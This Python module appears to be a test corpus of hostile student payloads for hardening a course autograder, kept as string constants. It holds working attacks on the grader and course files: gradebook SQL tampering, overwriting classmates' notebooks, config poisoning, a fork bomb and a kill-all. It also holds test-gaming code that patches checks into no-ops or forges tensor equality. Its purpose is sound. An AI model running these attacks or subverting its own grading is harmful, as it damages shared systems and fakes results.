"""What hostile students put in their answer cells: source code, one constant per attack.

Each attack is what a student who has read this repository would write. None needs the
network or a real victim: attacks that look for the course search the places where a grader
leaves it (the kernel's working folder and its parents, the grader's working folder, the
folder of the installed ``cnncourse`` package and temporary course copies). Every attack that
could harm the machine itself is bounded: the fork bomb stops at 1,000 children, the
memory bomb allocates 6 GiB once, ``kill(-1)`` is only tried by a process that is not root.
"""

from __future__ import annotations

__all__ = [
    "FIND_COURSES", "RUN_SOURCE_SOLUTIONS", "RUN_GRADEBOOK_SOLUTIONS", "LEAK_HIDDEN_TESTS", "SQL_UPDATE",
    "OVERWRITE_CLASSMATES", "POISON_CONFIG", "ESCAPED_DAEMON", "OS_EXIT", "SEGFAULT", "MEMORY_BOMB",
    "BUSY_LOOP", "FORK_BOMB", "KILL_GRADER", "SIXTY_MB", "network", "signal_proof_function",
    "INPUT_TRANSFORMER", "AST_TRANSFORMER", "CUSTOM_EXC", "SHOWTRACEBACK", "TRANSFORM_CELL",
    "PRE_RUN_CELL", "POST_RUN_CELL", "SETTRACE", "GRADING_NO_OPS", "FAKE_GRADING_MODULE",
    "TORCH_ALWAYS_EQUAL", "FAKE_CORR2D", "READ_SYMLINKS", "FORGED_AUTOGRADED", "POSING_SETUP",
    "FORGED_TENSORS", "OBSERVER_PATCHED", "CONV2D_MULTI_IN_OUT", "SHAPE_ONLY_LENET", "SHAPE_ONLY_RESIDUAL",
]

# Every course folder this process can see: a folder holding nbgrader_config.py.
FIND_COURSES = '''
import glob as _glob
import os as _os
from pathlib import Path as _Path


def _courses(writable=False):
    # Write attacks only aim at the course copy whose marker file holds this batch's token, so
    # that a grader without a sandbox damages neither the repository nor other course copies.
    starts = [_Path.cwd()]
    try:
        starts.append(_Path(_os.readlink(f"/proc/{_os.getppid()}/cwd")))
    except OSError:
        pass
    try:
        import cnncourse as _cc
        starts.append(_Path(_cc.__file__).resolve().parents[2] / "course")
    except Exception:
        pass
    for pattern in ("/tmp/*/course", "/tmp/*/*/course", "/tmp/pytest-of-*/*/*/course", "/tmp/*/*/*/course"):
        starts += [_Path(p) for p in _glob.glob(pattern)]
    found = []
    for start in starts:
        for folder in [start, *start.parents]:
            try:
                if (folder / "nbgrader_config.py").is_file() and folder not in found:
                    if not writable or (folder / "HOSTILE_TARGET").read_text().strip() == _TOKEN:
                        found.append(folder)
            except OSError:
                pass
    return found
'''

# Execute the solution cells of the instructor's source notebook (nothing answered honestly).
RUN_SOURCE_SOLUTIONS = FIND_COURSES + '''
import json as _json
_done = False
for _course in _courses():
    for _nb in sorted((_course / "source" / _ASSIGNMENT).glob("*.ipynb")):
        try:
            _cells = _json.loads(_nb.read_text())["cells"]
        except (OSError, ValueError):
            continue
        for _cell in _cells:
            if _cell["metadata"].get("nbgrader", {}).get("solution") and _cell["cell_type"] == "code":
                exec("".join(_cell["source"]), globals())
                _done = True
    if _done:
        break
'''

# The gradebook keeps every source cell, solutions included: run those.
RUN_GRADEBOOK_SOLUTIONS = FIND_COURSES + '''
import sqlite3 as _sqlite3
for _course in _courses():
    try:
        _db = _sqlite3.connect(f"file:{_course / 'gradebook.db'}?mode=ro", uri=True)
        _rows = _db.execute("SELECT source FROM source_cell ORDER BY rowid").fetchall()
    except Exception:
        continue
    for (_source,) in _rows:
        if "BEGIN SOLUTION" in (_source or ""):
            try:
                exec(_source, globals())
            except Exception:
                pass
    if _rows:
        break
'''

# Print every test cell of the source notebook, hidden tests included, into the feedback.
LEAK_HIDDEN_TESTS = FIND_COURSES + '''
import json as _json
for _course in _courses():
    for _nb in sorted((_course / "source" / _ASSIGNMENT).glob("*.ipynb")):
        try:
            for _cell in _json.loads(_nb.read_text())["cells"]:
                if _cell["metadata"].get("nbgrader", {}).get("grade"):
                    print("".join(_cell["source"]))
        except (OSError, ValueError):
            pass
'''

# Raise one's own grades (and a classmate's) in the gradebook, now and for a minute to come.
_SQL_FUNCTIONS = FIND_COURSES + '''
import sqlite3 as _sqlite3
import threading as _threading
import time as _time

_RAISE = """UPDATE grade SET extra_credit = ? WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n
 JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?)"""


def _raise_grades():
    for _course in _courses(writable=True):
        if not (_course / "gradebook.db").is_file():
            continue
        try:
            _db = _sqlite3.connect(_course / "gradebook.db", timeout=1)
            _db.execute(_RAISE, (1000, _ME))
            _db.execute(_RAISE, (100, _VICTIMS[0]))
            _db.execute("UPDATE grade SET manual_score = 1000")
            _db.commit()
            _db.close()
        except Exception:
            pass


def _keep_raising():
    for _ in range(120):
        _raise_grades()
        _time.sleep(0.5)

'''
SQL_UPDATE = _SQL_FUNCTIONS + (
    "_raise_grades()\n_threading.Thread(target=_keep_raising, daemon=True).start()\n")

# Replace classmates' submitted (and already graded) notebooks with empty ones.
OVERWRITE_CLASSMATES = FIND_COURSES + '''
_BLANK = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'


def _overwrite(victims):
    for _course in _courses(writable=True):
        for _victim in victims:
            for _stage in ("submitted", "autograded"):
                for _nb in (_course / _stage / _victim).glob("*/*.ipynb"):
                    try:
                        _nb.write_text(_BLANK)
                    except OSError:
                        pass


_overwrite(_VICTIMS)
'''

# Append code to the course's nbgrader_config.py: it runs as the instructor at the next command.
POISON_CONFIG = FIND_COURSES + '''
for _course in _courses(writable=True):
    try:
        with open(_course / "nbgrader_config.py", "a") as _config:
            _config.write("\\nc.Execute.timeout = 1  # added by a student\\n")
        (_course / "source" / _ASSIGNMENT / "PWNED.txt").write_text("a student wrote here")
    except OSError:
        pass
'''

# A process that leaves the kernel's process tree and keeps attacking after the kernel ends.
ESCAPED_DAEMON = OVERWRITE_CLASSMATES + _SQL_FUNCTIONS + '''
import signal as _signal

if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        for _sig in (_signal.SIGHUP, _signal.SIGTERM, _signal.SIGINT):
            _signal.signal(_sig, _signal.SIG_IGN)
        for _ in range(60):
            _time.sleep(0.5)
            _overwrite(_VICTIMS)
            _raise_grades()
    _os._exit(0)
'''

OS_EXIT = "import os\nos._exit(1)\n"
SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
MEMORY_BOMB = ("import torch\nhog = torch.ones(6 * 2**30 // 4)  # 6 GiB, every page touched\n"
               "print(float(hog[-1]))\ndel hog\n")
BUSY_LOOP = "while True:  # burns a core until something stops it\n    pass\n"
FORK_BOMB = '''import os
import time

children = 0
for _ in range(1000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            time.sleep(10)
        finally:
            os._exit(0)
    children += 1
print("forked", children)
'''
# Kill the grader; a non-root process also tries every process it may signal (other kernels).
KILL_GRADER = '''import os
import signal

if os.getuid() != 0:
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getppid(), signal.SIGKILL)
'''
SIXTY_MB = "for _ in range(600):\n    print('y' * 100_000)  # 60 MB in all\n"


def network(port: int) -> str:
    """Connect to a listener of the grading machine on ``port`` and to a public DNS server."""
    return f'''import socket

for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 53)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"a student was here")
        print("connected to", host, port)
    except OSError as error:
        print("no connection to", host, port, error)
'''


def signal_proof_function(name: str, args: str) -> str:
    """A function that ignores SIGINT and SIGTERM and never returns."""
    return f'''import signal


def {name}({args}):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        pass
'''


# Every later cell becomes empty: its tests never run, so they never fail.
INPUT_TRANSFORMER = "get_ipython().input_transformers_cleanup.append(lambda lines: [])\n"
AST_TRANSFORMER = '''import ast


class Hollow(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Pass()]
        return ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(Hollow())
'''
# Errors of later cells are swallowed or never shown.
CUSTOM_EXC = ("get_ipython().set_custom_exc((BaseException,),\n"
              "                            lambda shell, etype, value, tb, tb_offset=None: None)\n")
SHOWTRACEBACK = '''ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip._showtraceback = lambda *args, **kwargs: None
'''
TRANSFORM_CELL = 'get_ipython().transform_cell = lambda raw_cell: "pass\\n"\n'

_NO_OPS = '''import sys

import cnncourse.grading


def _no_ops(*args, **kwargs):
    for module_name, module in list(sys.modules.items()):
        if module_name.startswith("cnncourse.grading") and module is not None:
            for name in dir(module):
                if name.startswith("check_"):
                    setattr(module, name, lambda *a, **k: None)
'''
# The checks become no-ops before every later cell (a test cell's fresh import gets them too).
PRE_RUN_CELL = _NO_OPS + 'get_ipython().events.register("pre_run_cell", _no_ops)\n_no_ops()\n'
POST_RUN_CELL = _NO_OPS + 'get_ipython().events.register("post_run_cell", _no_ops)\n_no_ops()\n'
GRADING_NO_OPS = _NO_OPS + "_no_ops()\n"
# Replace the whole module: test cells import a fake cnncourse.grading.
FAKE_GRADING_MODULE = '''import sys
import types

fake = types.ModuleType("cnncourse.grading")
fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)
fake.quiet = lambda: None
sys.modules["cnncourse.grading"] = fake
import cnncourse
cnncourse.grading = fake
'''
# A tracer rewrites check_close's arguments so the student's value always equals the oracle's.
SETTRACE = '''import sys


def tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("check_close", "check_shape"):
        frame.f_locals["actual"] = frame.f_locals["expected"]
    return None


sys.settrace(tracer)
'''
TORCH_ALWAYS_EQUAL = '''import torch
import torch.testing

torch.isclose = lambda a, b, *args, **kwargs: torch.ones(torch.as_tensor(a).shape, dtype=torch.bool)
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
'''
# The oracle the tests compare with now agrees with the student's zeros.
FAKE_CORR2D = '''import cnncourse.functional


def corr2d(X, K):
    return torch.zeros(X.shape[0] - K.shape[0] + 1, X.shape[1] - K.shape[1] + 1)


cnncourse.functional.corr2d = corr2d
'''
# Files a hostile folder links in (see corpus.py): the source notebook and the gradebook.
READ_SYMLINKS = '''import json
import sqlite3

try:
    for cell in json.load(open("notes.json"))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            exec("".join(cell["source"]), globals())
except Exception as error:
    print("no notes:", error)
try:
    db = sqlite3.connect("grades.db", timeout=1)
    db.execute("UPDATE grade SET extra_credit = 1000")
    db.commit()
except Exception as error:
    print("no gradebook:", error)
'''
# A notebook with the same name, written into the kernel's folder, in which nothing fails.
FORGED_AUTOGRADED = '''import glob
import json

for name in glob.glob("*.ipynb"):
    try:
        nb = json.load(open(name))
        for cell in nb["cells"]:
            if cell["cell_type"] == "code":
                cell["source"] = "pass"
                cell["outputs"] = []
        json.dump(nb, open(name, "w"))
    except Exception as error:
        print(error)
'''
# Cells posing as the instructor's read-only setup cell, hoping the clean test kernel runs them:
# one with an id the gradebook does not know, one with the real setup cell's id.
POSING_SETUP = '''import torch
import cnncourse.functional


def corr2d(X, K):
    return torch.zeros(X.shape[0] - K.shape[0] + 1, X.shape[1] - K.shape[1] + 1)


cnncourse.functional.corr2d = corr2d
'''
# The student kernel's agent sends a forged stand-in, claiming to be a tensor, instead of every tensor.
FORGED_TENSORS = '''import cnncourse.grading.agent as _agent
import torch as _torch

_honest = _agent.encode


def _forged(value, budget=None):
    if type(value) is _torch.Tensor:
        mro = [["torch", "Tensor"], ["torch._C", "TensorBase"], ["builtins", "object"]]
        return ("r", _agent._keep(value), {"mro": mro, "callable": False, "repr": "tensor(...)"})
    return _honest(value, budget)


_agent.encode = _forged
'''
# The student kernel's observer forgets every refusal, so a ready-made convolution passes.
OBSERVER_PATCHED = '''import cnncourse.grading.agent as _agent
import cnncourse.grading.observe as _observe

_honest = _observe.observe_here


def _lenient(fn, args, kwargs, refuse=(), refuse_in=(), hint="", **options):
    return _honest(fn, args, kwargs, **options)


_observe.observe_here = _lenient
_agent.observe_here = _lenient
'''
# ps2's multi-channel cross-correlation written with the ready-made convolution the task refuses.
CONV2D_MULTI_IN_OUT = '''import torch.nn.functional as F


def corr2d_multi_in_out_student(X, K):
    return F.conv2d(X[None], K)[0]
'''
# Outputs that only look right: a "network" returning the output's shape instead of an output
# (ps3), and a residual block with the right layers whose forward returns an object with a shape.
SHAPE_ONLY_LENET = '''import torch


def build_modern_lenet(in_channels, num_classes, image_size):
    return lambda X: torch.Size([X.shape[0], num_classes])
'''
SHAPE_ONLY_RESIDUAL = '''import torch
from torch import nn


class _Shaped:
    def __init__(self, shape):
        self.shape = shape


class ResidualStudent(nn.Module):
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self.out_channels, self.stride = out_channels, stride
        self.conv1 = nn.Conv2d(in_channels, out_channels, 3, padding=1, stride=stride)
        self.bn1 = nn.BatchNorm2d(out_channels)
        self.conv2 = nn.Conv2d(out_channels, out_channels, 3, padding=1)
        self.bn2 = nn.BatchNorm2d(out_channels)
        needs_1x1 = in_channels != out_channels or stride != 1
        self.conv3 = nn.Conv2d(in_channels, out_channels, 1, stride=stride) if needs_1x1 else None

    def forward(self, X):
        side = (X.shape[-1] + self.stride - 1) // self.stride
        return _Shaped(torch.Size([X.shape[0], self.out_channels, side, side]))
'''
